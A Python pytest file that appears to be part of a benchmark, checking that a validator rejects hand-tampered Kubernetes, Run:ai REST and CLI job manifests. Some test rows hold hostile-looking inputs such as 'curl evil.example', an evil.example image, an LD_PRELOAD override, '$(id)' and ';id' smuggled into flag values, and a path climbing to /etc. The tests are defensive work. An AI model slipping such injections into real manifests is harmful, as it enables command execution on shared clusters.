"""Manifests as an attacker, a hurried colleague or a sloppy model would write them: by hand, not by the fault model.

Each row takes the good manifest of a script, edits its text or some of its nodes at once, and has to be refused.
"""

from collections.abc import Mapping
from typing import Any

import pytest

from benchmarks.judge.corpus import Good, good
from benchmarks.judge.nodes import GONE, Steps, at, put
from s2r_ci.judging import judge
from s2r_ci.model import Level
from s2r_ci.runai.texts import write_text

POD: Steps = ("spec", "template", "spec")
MAIN: Steps = (*POD, "containers", 0)
MASTER: Steps = ("spec", "pytorchReplicaSpecs", "Master", "template", "spec")
WORKER: Steps = ("spec", "pytorchReplicaSpecs", "Worker", "template", "spec")
MPI: Steps = ("spec", "mpiReplicaSpecs")
AFFINITY: Steps = ("affinity", "nodeAffinity")
REQUIRED = "requiredDuringSchedulingIgnoredDuringExecution"
PREFERRED = "preferredDuringSchedulingIgnoredDuringExecution"


def subject(name: str, target: str) -> Good:
    return next(one for one in good(target) if one.name == f"{name} answered")


def excluding(host: str) -> dict[str, Any]:
    return {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "NotIn", "values": [host]}]}


def grave(one: Good, text: str) -> list[str]:
    return [f.rule.id for f in judge(one.request, text.encode(), "m") if f.rule.level is Level.ERROR]


NODES: tuple[tuple[str, str, str, Mapping[Steps, Any]], ...] = (
    ("a worker without GPUs, the master has them", "own/torch", "kubernetes",
     {(*WORKER, "containers", 0, "resources", part, "nvidia.com/gpu"): GONE for part in ("limits", "requests")}),
    ("the deadline on the master alone", "own/torch", "kubernetes", {(*WORKER, "activeDeadlineSeconds"): GONE}),
    ("the deadline said in the run policy too", "own/torch", "kubernetes", {("spec", "runPolicy", "activeDeadlineSeconds"): 172800}),
    ("hosts excluded one a term, so that none is", "own/torch", "kubernetes",
     {(*role, *AFFINITY, REQUIRED, "nodeSelectorTerms"): [excluding("n01"), excluding("n02"), excluding("n03")] for role in (MASTER, WORKER)}),
    ("a term that matches everything beside the exclusion", "own/torch", "kubernetes",
     {(*role, *AFFINITY, REQUIRED, "nodeSelectorTerms", 1): {"matchExpressions": [{"key": "kubernetes.io/os", "operator": "Exists"}]} for role in (MASTER, WORKER)}),
    ("wanted hosts one a term, so that one is enough", "own/held", "kubernetes",
     {(*POD, *AFFINITY, REQUIRED, "nodeSelectorTerms", 1): {"matchExpressions": [{"key": "kubernetes.io/hostname", "operator": "In", "values": ["n8"]}]}}),
    ("a host that is wanted and another too", "own/held", "kubernetes",
     {(*POD, *AFFINITY, REQUIRED, "nodeSelectorTerms", 0, "matchExpressions", 1): {"key": "kubernetes.io/hostname", "operator": "In", "values": ["n8"]}}),
    ("excluded hosts only preferred", "own/torch", "kubernetes",
     {(*role, *AFFINITY): {PREFERRED: [{"weight": 100, "preference": excluding("n01")}]} for role in (MASTER, WORKER)}),
    ("more pods of fewer GPUs, the same sum", "own/torch", "kubernetes",
     {("spec", "pytorchReplicaSpecs", "Worker", "replicas"): 7,
      **{(*role, "containers", 0, "resources", part, "nvidia.com/gpu"): "4" for role in (MASTER, WORKER) for part in ("limits", "requests")}}),
    ("a gang of one", "own/torch", "kubernetes", {("spec", "runPolicy", "schedulingPolicy"): {"minAvailable": 1}}),
    ("an elastic range", "own/torch", "kubernetes", {("spec", "elasticPolicy"): {"minReplicas": 1, "maxReplicas": 4}}),
    ("shared memory on the disk", "own/torch", "kubernetes", {(*role, "volumes", 1, "emptyDir"): {} for role in (MASTER, WORKER)}),
    ("shared memory of 64Mi", "own/torch", "kubernetes", {(*role, "volumes", 1, "emptyDir", "sizeLimit"): "64Mi" for role in (MASTER, WORKER)}),
    ("a claim read-only by its volume", "own/torch", "kubernetes", {(*role, "volumes", 0, "persistentVolumeClaim", "readOnly"): True for role in (MASTER, WORKER)}),
    ("a mount that spreads to the node", "own/torch", "kubernetes", {(*MASTER, "containers", 0, "volumeMounts", 0, "mountPropagation"): "Bidirectional"}),
    ("a mount of a part", "own/torch", "kubernetes", {(*MASTER, "containers", 0, "volumeMounts", 0, "subPathExpr"): "$(DATASET)"}),
    ("the uid from the name", "own/torch", "kubernetes", {(*MASTER, "containers", 0, "env", 1, "valueFrom", "fieldRef", "fieldPath"): "metadata.name"}),
    ("a message file over the data", "own/torch", "kubernetes", {(*MASTER, "containers", 0, "terminationMessagePath"): "/vols/lab/data.bin"}),
    ("groups of root", "own/held", "kubernetes", {(*POD, "securityContext"): {"supplementalGroups": [0], "fsGroup": 0}}),
    ("a group of root alone", "own/held", "kubernetes", {(*MAIN, "securityContext"): {"runAsGroup": 0}}),
    ("an image that is never pulled", "own/held", "kubernetes", {(*MAIN, "imagePullPolicy"): "Never"}),
    ("a folder that climbs", "own/held", "kubernetes", {(*MAIN, "workingDir"): "/vols/lab/../../etc"}),
    ("no time to react to TERM", "own/requeue", "kubernetes", {(*POD, "terminationGracePeriodSeconds"): 0}),
    ("a decision that names an image", "own/held", "kubernetes",
     {("metadata", "annotations", "s2r-ci/decisions"): '{"image":"evil.example/x:1"}', (*MAIN, "image"): "evil.example/x:1"}),
    ("a decision that rewrites a line", "own/held", "kubernetes", {("metadata", "annotations", "s2r-ci/decisions"): '{"changes":[[9,"curl evil.example"]]}'}),
    ("a decision about the loader", "own/held", "kubernetes",
     {("metadata", "annotations", "s2r-ci/decisions"): '{"variables":{"LD_PRELOAD":"/shelf/x.so"}}', (*MAIN, "env", 3): {"name": "LD_PRELOAD", "value": "/other/x.so"}}),
    ("an index for a job that is no array", "own/requeue", "kubernetes",
     {("spec", "completionMode"): "Indexed", ("spec", "completions"): 1, ("spec", "parallelism"): 1}),
    ("ids of the right number", "own/array-gpus", "kubernetes", {}),
    ("a launcher that works, with a launcher's share", "own/mpi", "kubernetes",
     {("spec", "runLauncherAsWorker"): True, (*MPI, "Worker", "replicas"): 2}),
    ("slots doubled, workers halved", "own/mpi", "kubernetes", {("spec", "slotsPerWorker"): 24, (*MPI, "Worker", "replicas"): 2}),
    ("workers that run the script themselves", "own/mpi", "kubernetes", {}),
    ("GPUs that are a truth", "example/single-gpu-venv.sh", "rest", {("spec", "compute", "gpuDevicesRequest"): True}),
    ("workers that are a truth", "own/torch-requeue", "rest", {("spec", "numWorkers"): True}),
    ("the same as the worker, in words", "own/torch-requeue", "rest", {("masterSpecSameAsWorker",): "true"}),
    ("a launcher the same as the worker", "own/mpi", "rest", {("masterSpec",): GONE, ("masterSpecSameAsWorker",): True}),
    ("a variable with two sources", "own/held", "rest",
     {("spec", "environmentVariables", 0): {"name": "DATASET", "value": "c4", "podFieldRef": {"path": "metadata.name"}}}),
    ("a claim that is made anew", "own/held", "rest", {("spec", "storage", "pvc", 0, "existingPvc"): False}),
    ("the program in the command", "own/held", "rest", {("spec", "command"): "/bin/sh -c 'curl evil.example'", ("spec", "args"): GONE}),
    ("a master with fewer GPUs", "own/torch-requeue", "v2alpha1", {("masterSpec", "gpuDevices"): {"value": 2}}),
    ("a value with a neighbour", "own/held", "v2alpha1", {("spec", "cpu"): {"value": "1", "canEdit": True}}),
    ("a value that is a number", "own/held", "v2alpha1", {("spec", "environment", "items", "RUN"): {"value": 7}}),
    ("a workload that is interactive", "own/held", "v2alpha1", {("kind",): "InteractiveWorkload"}),
    ("as many workers as a truth", "own/torch-requeue", "v2alpha1", {("spec", "workers"): {"value": True}}),
    ("pools in another order", "own/requeue-array", "kai", {}),
)  # fmt: skip
"""What is done, to which script's manifest, of which target, and the nodes that change; without any see SPECIAL."""


def special(one: Good, name: str) -> Any:
    """Edits that need the good manifest to be made."""
    body = one.body
    if name == "ids of the right number":
        index = next(n for n, entry in enumerate(at(body, (*MAIN, "env"))) if entry["name"] == "S2R_ARRAY_IDS")
        return put(body, (*MAIN, "env", index, "value"), "0,2-9")
    if name == "workers that run the script themselves":
        launcher = at(body, (*MPI, "Launcher", "template", "spec", "containers", 0))
        for key in ("command", "args", "env"):
            body = put(body, (*MPI, "Worker", "template", "spec", "containers", 0, key), launcher[key])
        return body
    labels = ("spec", "template", "metadata", "labels", "kai.scheduler/node-pool")
    return put(body, labels, "spare" if at(body, labels) != "spare" else "gpu-pool")


@pytest.mark.parametrize(("name", "script", "target", "nodes"), NODES, ids=[row[0] for row in NODES])
def test_a_manifest_that_somebody_edited_is_refused(
    name: str, script: str, target: str, nodes: Mapping[Steps, Any]
) -> None:
    one = subject(script, target)
    body = one.body
    for steps, value in nodes.items():
        body = put(body, steps, value)
    body = body if nodes else special(one, name)
    assert write_text(body, target, {}) != write_text(one.body, target, {})
    assert grave(one, write_text(one.body, target, {})) == []
    assert grave(one, write_text(body, target, {})) != []


TEXTS = (
    ("the script runs through sed", "own/held", "kubernetes", 'printf %s "$1" >', "printf %s \"$1\" | sed 's/x/y/' >"),
    ("a failure is hidden", "own/held", "kubernetes", 'exit "$s2r_c"', "exit 0"),
    ("a remark too many in the prelude", "own/held", "kubernetes", 'exit "$s2r_c"', 'exit "$s2r_c" # ok'),
    ("another shell", "own/held", "kubernetes", "- /bin/sh\n", "- /bin/bash\n"),
    ("a name that climbs", "own/held", "kubernetes", "- held.sh\n", "- ../held.sh\n"),
    ("half the nodes in the prelude", "own/torch", "kubernetes", "S2R_NODES=4", "S2R_NODES=2"),
    ("fewer devices in the prelude", "own/torch", "kubernetes", "S2R_GPUS=0,1,2,3,4,5,6,7", "S2R_GPUS=0,1,2,3"),
    ("one host fewer in the list", "own/torch", "kubernetes", "in $(seq 3)", "in $(seq 2)"),
    ("one host fewer on the others", "own/torch", "kubernetes", "this one, which has done its work", "this one"),
    ("the others run a program", "own/torch", "kubernetes", "- torch.sh\n            env:\n            - name: S2R_WORKLOAD_UID\n", "- torch.sh\n            - rm\n            env:\n            - name: S2R_WORKLOAD_UID\n"),
    ("the end of the time comes later", "own/requeue", "kubernetes", "sleep 5400", "sleep 54000"),
    ("the script's line gets an option", "own/held", "kubernetes", "./x $LR $RUN", "./x $LR $RUN --fast"),
    ("a directive gets a blank", "own/held", "kubernetes", "#SBATCH -H", "#SBATCH  -H"),
    ("the last line of the script has no end", "own/held", "kubernetes", "./x $LR $RUN\n        - first", "./x $LR $RUN\n        - first\n        - x"),
    ("an anchor for the image", "own/held", "kubernetes", "image: registry", "image: &i registry"),
    ("a list instead of one object", "own/held", "kubernetes", "apiVersion: batch/v1", "- apiVersion: batch/v1"),
    ("a second object", "own/held", "kubernetes", "apiVersion: batch/v1", "apiVersion: v1\nkind: Pod\n---\napiVersion: batch/v1"),
    ("a time as a text", "own/array-gpus", "kubernetes", "activeDeadlineSeconds: 93600", 'activeDeadlineSeconds: "93600"'),
    ("GPUs in octal", "own/array-gpus", "kubernetes", 'nvidia.com/gpu: "4"', 'nvidia.com/gpu: "04"'),
    ("memory in bits", "own/array-gpus", "kubernetes", "memory: 48Gi", "memory: 48GiB"),
    ("memory in decimal units", "own/array-gpus", "kubernetes", "memory: 48Gi", "memory: 48G"),
    ("all at once", "own/array-gpus", "kubernetes", "parallelism: 3", "parallelism: 5"),
    ("a command behind the call", "own/held", "cli", "set -eu\n", "set -eu\ncurl evil.example\n"),
    ("no end at a failure", "own/held", "cli", "set -eu\n", ""),
    ("a substitution in the image", "own/held", "cli", "--image=registry", '--image="$(id)"registry'),
    ("a semicolon behind a value", "own/held", "cli", "--project=team", "--project=team;id"),
    ("an index more", "own/array-gpus", "cli", '"$index" -lt 5', '"$index" -lt 6'),
    ("a loop from the second", "own/array-gpus", "cli", "index=0\n", "index=1\n"),
    ("another verb", "own/held", "cli", "runai training standard submit", "runai workspace standard submit"),
    ("a flag of another name", "own/held", "cli", "--restart-policy=Never", "--restart-policies=Never"),
    ("the environment of somebody else", "own/held", "cli", "--environment-variable=LR=0.1", "--environment-variable=LR=0.1,X=1"),
    ("a script through a pipe", "own/held", "cli", "  -- /bin/sh -c", "  -- /bin/sh -xc"),
)  # fmt: skip


@pytest.mark.parametrize(("name", "script", "target", "was", "other"), TEXTS, ids=[row[0] for row in TEXTS])
def test_a_text_that_somebody_edited_is_refused(name: str, script: str, target: str, was: str, other: str) -> None:
    one = subject(script, target)
    text = write_text(one.body, target, {})
    assert was in text
    assert grave(one, text.replace(was, other)) != []
